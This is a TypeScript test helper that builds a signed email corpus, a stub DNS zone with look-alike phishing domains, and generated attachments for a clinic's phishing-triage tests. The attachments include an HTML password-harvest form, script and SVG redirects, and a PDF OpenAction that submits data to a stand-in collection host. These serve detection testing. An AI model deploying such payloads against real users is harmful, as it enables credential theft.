/**
 * The reported-mail corpus (test/fixtures/mail/triage/*.eml) made ready for triage: DKIM keys are
 * generated for the run, messages are signed with them as their sender's server would, a mailing
 * list modifies and ARC-seals its message, and a stub DNS serves the keys with the SPF and DMARC
 * records of every domain in the corpus. Nothing is signed in the files themselves: a signature made
 * once and kept would prove nothing about the verification the test runs.
 *
 * Directives in a fixture's header block, removed before use:
 *   X-Test-Dkim: <domain>          sign with that domain's key (after any list handling, see below)
 *   X-Test-List: <domain>          the message passes through that domain's mailing list: the list tags
 *                                  the subject, sets Reply-To to itself, appends a footer, re-signs with
 *                                  its own key and ARC-seals
 *   X-Test-Tamper: <old>=><new>    after signing, replace text in the body (the DKIM body hash then fails)
 * Placeholders in bodies: {{file:<kind>}} becomes the base64 of a generated file (see FILES).
 */
import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { dkimSign, sealMessage } from 'mailauth';
import type { DnsResolver, StaffMember } from '../../src/awareness/index.js';

export const FIXTURES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/mail/triage');
/** A second corpus, written after the rules and never used to set them (docs/awareness.md, "Held-out check"). */
export const HELDOUT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/mail/triage-heldout');
export const CLINIC_DOMAINS = ['stmarys-clinic.org', 'medsupply.com', 'labcorp-diagnostics.com'];
export const STAFF: StaffMember[] = [
  { name: 'Anna Keller', email: 'anna.keller@stmarys-clinic.org' },
  { name: 'Thomas Brandt', email: 'thomas.brandt@stmarys-clinic.org' },
  { name: 'Maria Lopez', email: 'm.lopez@stmarys-clinic.org' },
];

interface DomainDns {
  spf?: string;
  dmarc?: string;
  /** Publishes a DKIM key under this selector (the corpus signs with it). */
  selector?: string;
}

/** Every domain the corpus sends from, with the records its owner would publish. */
const ZONE: Record<string, DomainDns> = {
  'stmarys-clinic.org': { spf: 'v=spf1 ip4:198.51.100.0/24 -all', dmarc: 'v=DMARC1; p=reject; rua=mailto:dmarc@stmarys-clinic.org', selector: 's2026' },
  'medsupply.com': { spf: 'v=spf1 ip4:203.0.113.10 ip4:203.0.113.11 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'mail' },
  'labcorp-diagnostics.com': { spf: 'v=spf1 ip4:203.0.113.20 ~all', dmarc: 'v=DMARC1; p=none', selector: 'lab1' },
  'healthtech-weekly.com': { spf: 'v=spf1 include:spf.esp-mailer.net ~all', dmarc: 'v=DMARC1; p=none', selector: 'esp' },
  'spf.esp-mailer.net': { spf: 'v=spf1 ip4:192.0.2.0/26 -all' },
  'esp-mailer.net': { spf: 'v=spf1 ip4:192.0.2.0/26 -all', selector: 'esp' },
  'medinfo-society.org': { spf: 'v=spf1 ip4:192.0.2.100 -all', dmarc: 'v=DMARC1; p=none', selector: 'list' },
  'uniklinik-nord.de': { spf: 'v=spf1 ip4:192.0.2.140 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'k1' },
  'gmail.com': { spf: 'v=spf1 ip4:209.85.128.0/17 ~all', dmarc: 'v=DMARC1; p=none', selector: '20230601' },
  'outlook.com': { spf: 'v=spf1 ip4:40.92.0.0/15 -all', dmarc: 'v=DMARC1; p=none', selector: 'selector1' },
  'northfield-dental.com': { spf: 'v=spf1 ip4:192.0.2.170 -all' },
  'ehealth-congress.eu': { spf: 'v=spf1 ip4:192.0.2.180 -all', dmarc: 'v=DMARC1; p=none', selector: 'eh' },
  'city-pharmacy.net': {},
  // Look-alikes, registered and configured properly by their owner (authentication passes for them).
  'stmarys-c1inic.org': { spf: 'v=spf1 ip4:45.83.64.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'medsupply-billing.com': { spf: 'v=spf1 ip4:45.83.65.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'medsupply.co': { spf: 'v=spf1 ip4:45.83.66.0/24 -all', selector: 'default' },
  'xn--medsuply-bch.com': { spf: 'v=spf1 ip4:45.83.67.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'labcorp-diagnostic.com': { spf: 'v=spf1 ip4:45.83.68.0/24 -all', selector: 'default' },
  // Senders of other phishing: some with records, some without.
  'secure-docs-portal.com': { spf: 'v=spf1 ip4:91.200.12.0/24 ~all' },
  'mail-notify-center.net': { spf: 'v=spf1 ip4:91.200.13.0/24 -all', selector: 'mx' },
  'invoices-docs.net': {},
  'parcel-tracking-update.com': { spf: 'v=spf1 ?all' },
  'cloudfiles-share.info': { spf: 'v=spf1 ip4:91.200.14.0/24 -all' },
  // The held-out corpus's senders. Legitimate services sign with their own keys; some send through an ESP.
  'careshop-direct.com': { spf: 'v=spf1 include:sendgrid.net ~all', dmarc: 'v=DMARC1; p=reject', selector: 's1' },
  'sendgrid.net': { spf: 'v=spf1 ip4:167.89.0.0/17 ~all' },
  'mcsv.net': { spf: 'v=spf1 ip4:198.2.128.0/18 ~all' },
  'rotaplan-app.com': { spf: 'v=spf1 ip4:192.0.2.200 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'rp' },
  'docusign.net': { spf: 'v=spf1 ip4:64.207.219.0/24 -all', dmarc: 'v=DMARC1; p=reject', selector: 'ds' },
  'sharepointonline.com': { spf: 'v=spf1 ip4:40.107.0.0/16 -all', dmarc: 'v=DMARC1; p=reject', selector: 'sp' },
  // Held-out phishing senders: throwaway, compromised-looking or look-alike domains, most with records of their own.
  'med-supply.co.uk': { spf: 'v=spf1 ip4:45.83.70.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'kraemer-logistik.de': { spf: 'v=spf1 ip4:88.99.10.0/24 ~all' },
  'remit-notice.com': { spf: 'v=spf1 ip4:91.200.20.0/24 -all' },
  'secure-auth-notice.com': { spf: 'v=spf1 ip4:91.200.21.0/24 -all', selector: 'k' },
  'hr-benefits-centre.com': { spf: 'v=spf1 ip4:91.200.22.0/24 -all' },
  'sharepoint-notify.net': { spf: 'v=spf1 ip4:91.200.23.0/24 -all' },
  'envelope-sign.com': { spf: 'v=spf1 ip4:91.200.24.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'k' },
  'alpen-bau.at': { spf: 'v=spf1 ip4:88.99.11.0/24 ~all', dmarc: 'v=DMARC1; p=none', selector: 'k' },
  'events-calendar.org': { spf: 'v=spf1 ip4:91.200.25.0/24 -all' },
  'labcorp-diagnostlcs.com': { spf: 'v=spf1 ip4:45.83.71.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'docs-archive.net': { spf: 'v=spf1 ip4:91.200.26.0/24 -all' },
  'scanner-mail.com': { spf: 'v=spf1 ip4:91.200.27.0/24 ~all' },
  'fax-delivery.net': { spf: 'v=spf1 ip4:91.200.28.0/24 -all' },
  'parcel-hold.com': { spf: 'v=spf1 ip4:91.200.29.0/24 -all' },
};

export interface CorpusMessage {
  file: string;
  raw: Buffer;
}

export interface Expectation {
  /** What the message really is. */
  label: 'phishing' | 'legitimate';
  verdict: 'phishing' | 'suspicious' | 'clean';
  /** Reason codes the triage must give (others may come too). */
  codes: string[];
}

export interface Corpus {
  messages: CorpusMessage[];
  expectations: Record<string, Expectation>;
  resolver: DnsResolver;
  /** The records served, name → type → answers (tests add their own). */
  records: Map<string, Map<string, string[][]>>;
  privateKeys: Map<string, string>;
}

function record(records: Corpus['records'], name: string, type: string, value: string): void {
  if (!records.has(name)) records.set(name, new Map());
  const byType = records.get(name)!;
  byType.set(type, [...(byType.get(type) ?? []), [value]]);
}

/** DNS from a table: unknown names are NXDOMAIN (ENOTFOUND), known names without that type ENODATA. */
export function stubResolver(records: Corpus['records']): DnsResolver {
  return async (name, rrtype) => {
    const byType = records.get(name.toLowerCase());
    const fail = (code: string) => Object.assign(new Error(`${code} ${name}`), { code });
    if (!byType) throw fail('ENOTFOUND');
    const answers = byType.get(rrtype.toUpperCase());
    if (!answers) throw fail('ENODATA');
    return answers;
  };
}

/** A zip archive with stored (uncompressed) entries; `encrypted` sets the encryption flag as a password-protected zip has. */
export function zipOf(entries: Array<{ name: string; data: Buffer }>, encrypted = false): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(encrypted ? 1 : 0, 6);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(encrypted ? 1 : 0, 8);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** An OLE compound file's first bytes, with or without a VBA project's storage name in its directory. */
function oleDocument(withMacros: boolean): Buffer {
  const head = Buffer.alloc(1536);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(head, 0);
  Buffer.from('Root Entry', 'utf16le').copy(head, 512);
  Buffer.from('WordDocument', 'utf16le').copy(head, 640);
  if (withMacros) Buffer.from('_VBA_PROJECT_CUR', 'utf16le').copy(head, 768);
  return head;
}

const PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

/** A 7z archive's 32-byte start header pointing at `next`, the header block that follows the packed data. */
function sevenZip(packed: Buffer, next: Buffer): Buffer {
  const start = Buffer.alloc(32);
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(start, 0);
  start.writeBigUInt64LE(BigInt(packed.length), 12);
  start.writeBigUInt64LE(BigInt(next.length), 20);
  return Buffer.concat([start, packed, next]);
}
// A header encoded (compressed and encrypted) with the 7zAES coder (id 06 F1 07 01), as `7z a -p -mhe=on` writes it.
const SEVEN_ZIP_AES_HEADER = Buffer.from([
  0x17, 0x06, 0x00, 0x01, 0x09, 0x30, 0x00, 0x07, 0x0b, 0x01, 0x00, 0x02, 0x24, 0x06, 0xf1, 0x07, 0x01, 0x0a, 0x53, 0x07, 0x1c, 0x2e, 0x4f, 0x11, 0xa9, 0x3b,
  0x02, 0x23, 0x03, 0x01, 0x01, 0x05, 0x5d, 0x00, 0x00, 0x10, 0x00, 0x0c, 0x30, 0x30, 0x00, 0x00,
]);
// A header encoded with LZMA only (id 03 01 01): an ordinary archive.
const SEVEN_ZIP_PLAIN_HEADER = Buffer.from([
  0x17, 0x06, 0x00, 0x01, 0x09, 0x30, 0x00, 0x07, 0x0b, 0x01, 0x00, 0x01, 0x23, 0x03, 0x01, 0x01, 0x05, 0x5d, 0x00, 0x00, 0x10, 0x00, 0x0c, 0x30, 0x00, 0x00,
]);

/** A RAR 5 archive whose headers are encrypted (`rar a -hp`): the signature, then an archive encryption header (type 4). */
function rar5EncryptedHeaders(): Buffer {
  const body = Buffer.concat([Buffer.from([0x04, 0x00, 0x00, 0x01, 0x0f]), Buffer.alloc(16, 0x5a), Buffer.alloc(12, 0x33)]);
  const block = Buffer.concat([Buffer.alloc(4), Buffer.from([body.length]), body]);
  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), block, Buffer.alloc(64, 0x7e)]);
}

/** The generated files fixtures may attach. */
const FILES: Record<string, () => Buffer> = {
  pdf: () => PDF,
  'pdf-2': () => Buffer.concat([PDF, Buffer.from('% second invoice\n')]),
  xlsx: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
    ]),
  docm: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'word/vbaProject.bin', data: oleDocument(true) },
    ]),
  'doc-macro': () => oleDocument(true),
  'doc-plain': () => oleDocument(false),
  'zip-encrypted-js': () => zipOf([{ name: 'Scan_0423.js', data: Buffer.from('x'.repeat(64)) }], true),
  'zip-encrypted-pdf': () => zipOf([{ name: 'Statement.pdf', data: PDF }], true),
  'zip-lnk': () => zipOf([{ name: 'Order-details/Order.pdf.lnk', data: Buffer.from('L\0\0\0') }]),
  'zip-photos': () => zipOf([{ name: 'ward-3-party/photo1.jpg', data: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) }]),
  exe: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]),
  js: () => Buffer.from('var s = WScript.CreateObject("WScript.Shell");\n'),
  iso: () => Buffer.alloc(2048),
  'html-form': () =>
    Buffer.from(
      '<html><body><h3>Document preview</h3><form action="https://collect.docs-preview.top/p" method="post"><input name="email"><input type="password" name="pw"><button>View</button></form></body></html>',
    ),
  'html-plain': () => Buffer.from('<html><body><script>window.location="https://docs-preview.top/"+location.hash</script></body></html>'),
  '7z-encrypted': () => sevenZip(Buffer.alloc(256, 0x41), SEVEN_ZIP_AES_HEADER),
  '7z-plain': () => sevenZip(Buffer.alloc(256, 0x42), SEVEN_ZIP_PLAIN_HEADER),
  'rar-encrypted': rar5EncryptedHeaders,
  one: () => Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(512)]),
  vhd: () => Buffer.concat([Buffer.alloc(512), Buffer.from('conectix'), Buffer.alloc(504)]),
  png: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64)]),
  'svg-script': () =>
    Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script type="text/javascript"><![CDATA[var t=atob("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv");window.location.href=t+document.documentElement.id;]]></script></svg>',
    ),
  'svg-plain': () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><text x="4" y="24">St Mary\'s</text></svg>'),
  'pdf-js': () =>
    Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Type /Action /S /JavaScript /JS (this.submitForm\\(\\{cURL: "https://collect.example.invalid/x"\\}\\)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    ),
  'pdf-link': () =>
    Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n4 0 obj << /Type /Page /Parent 2 0 R /Annots [5 0 R] >> endobj\n5 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.medsupply.com/terms) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    ),
  ics: () =>
    Buffer.from('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Product training\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'),
};

function fileBase64(kind: string): string {
  const make = FILES[kind];
  if (!make) throw new Error(`unknown fixture file kind ${kind}`);
  return (
    make()
      .toString('base64')
      .match(/.{1,76}/g)
      ?.join('\r\n') ?? ''
  );
}

/** Splits the directives (X-Test-*) out of a message's header block. */
function directives(message: string): { message: string; dkim?: string; list?: string; tamper?: [string, string] } {
  const end = message.indexOf('\r\n\r\n');
  const lines = message.slice(0, end).split('\r\n');
  const found: Record<string, string> = {};
  const kept = lines.filter((l) => {
    const m = /^X-Test-(Dkim|List|Tamper):\s*(.*)$/i.exec(l);
    if (m) found[m[1].toLowerCase()] = m[2].trim();
    return !m;
  });
  const tamper = found.tamper?.split('=>') as [string, string] | undefined;
  return { message: kept.join('\r\n') + message.slice(end), dkim: found.dkim, list: found.list, tamper };
}

async function sign(message: string, domain: string, keys: Map<string, string>): Promise<string> {
  const selector = ZONE[domain]?.selector;
  const privateKey = keys.get(domain);
  if (!selector || !privateKey) throw new Error(`no DKIM key for ${domain}`);
  // Each signature's domain, selector and key go in signatureData (mailauth ignores them at the top level).
  const { signatures } = await dkimSign(message, {
    signTime: signedAMinuteAgo(),
    canonicalization: 'relaxed/relaxed',
    signatureData: [{ signingDomain: domain, selector, privateKey }],
  } as Parameters<typeof dkimSign>[1]);
  return signatures + message;
}

/** A list server's handling: tag the subject, add the list's headers and footer, sign, and seal with what it saw. */
async function throughList(message: string, list: string, author: string, keys: Map<string, string>): Promise<string> {
  const end = message.indexOf('\r\n\r\n');
  let head = message.slice(0, end);
  const body = message.slice(end + 4);
  head = head.replace(/^Subject: /im, 'Subject: [MedInfo] ');
  head += `\r\nReply-To: MedInfo discussion <medinfo@lists.${list}>\r\nList-Id: MedInfo discussion <medinfo.lists.${list}>\r\nList-Unsubscribe: <mailto:leave-medinfo@lists.${list}>`;
  const modified = `${head}\r\n\r\n${body}\r\n-- \r\nYou receive this as a member of the MedInfo list (lists.${list}).\r\n`;
  const signed = await sign(modified, list, keys);
  const authResults = `lists.${list}; dkim=pass header.d=${author} header.s=${ZONE[author]?.selector}; spf=pass smtp.mailfrom=${author}; dmarc=pass header.from=${author}`;
  const seal = await sealMessage(signed, {
    signingDomain: list,
    selector: ZONE[list]!.selector!,
    privateKey: keys.get(list)!,
    authResults,
    cv: 'none',
    signTime: signedAMinuteAgo(),
  } as Parameters<typeof sealMessage>[1]);
  return seal.toString() + signed;
}

/**
 * When the test corpus is signed. Not now: mailauth writes a signature's t= as the current second
 * rounded to the nearest (up to half a second ahead), and its verifier, with the same clock, refuses a
 * signature from the future, so a message verified within that half second failed DKIM by chance.
 */
export const signedAMinuteAgo = () => new Date(Date.now() - 60_000);

/** `dir`: the folder of fixtures and their expectations.json (the main corpus, or HELDOUT). */
export async function buildCorpus(dir: string = FIXTURES): Promise<Corpus> {
  const records: Corpus['records'] = new Map();
  const privateKeys = new Map<string, string>();
  for (const [domain, dns] of Object.entries(ZONE)) {
    records.set(domain, records.get(domain) ?? new Map());
    if (dns.spf) record(records, domain, 'TXT', dns.spf);
    if (dns.dmarc) record(records, `_dmarc.${domain}`, 'TXT', dns.dmarc);
    if (dns.selector) {
      const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      privateKeys.set(domain, privateKey.export({ type: 'pkcs8', format: 'pem' }).toString());
      const p = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
      record(records, `${dns.selector}._domainkey.${domain}`, 'TXT', `v=DKIM1; k=rsa; p=${p}`);
    }
  }
  const expectations = JSON.parse(fs.readFileSync(path.join(dir, 'expectations.json'), 'utf8')) as Record<string, Expectation>;
  const messages: CorpusMessage[] = [];
  for (const file of fs
    .readdirSync(dir)
    .filter((f) => f.endsWith('.eml'))
    .sort()) {
    let text = fs.readFileSync(path.join(dir, file), 'utf8').replace(/\r?\n/g, '\r\n');
    text = text.replace(/\{\{file:([a-z0-9-]+)\}\}/g, (_, kind: string) => fileBase64(kind));
    const d = directives(text);
    let message = d.message;
    if (d.dkim) message = await sign(message, d.dkim, privateKeys);
    if (d.list) message = await throughList(message, d.list, d.dkim ?? '', privateKeys);
    if (d.tamper) message = message.replace(d.tamper[0], d.tamper[1]);
    messages.push({ file, raw: Buffer.from(message, 'utf8') });
  }
  return { messages, expectations, resolver: stubResolver(records), records, privateKeys };
}

/**
 * Per reason code, how the results compare with the expectations: found and expected (tp), found
 * but not expected (fp), expected but not found (fn). `skip` leaves codes out (authentication
 * results a corpus lists only where they are a message's point).
 */
export function reasonCounts(
  corpus: Corpus,
  results: Map<string, { reasons: Array<{ code: string }> }>,
  reasonCodes: string[],
  skip: (code: string) => boolean = () => false,
): Array<{ code: string; tp: number; fp: number; fn: number }> {
  return reasonCodes
    .filter((code) => !skip(code))
    .map((code) => {
      let tp = 0;
      let fp = 0;
      let fn = 0;
      for (const m of corpus.messages) {
        const want = corpus.expectations[m.file].codes.includes(code);
        const got = results.get(m.file)!.reasons.some((r) => r.code === code);
        if (want && got) tp++;
        else if (got) fp++;
        else if (want) fn++;
      }
      return { code, tp, fp, fn };
    });
}
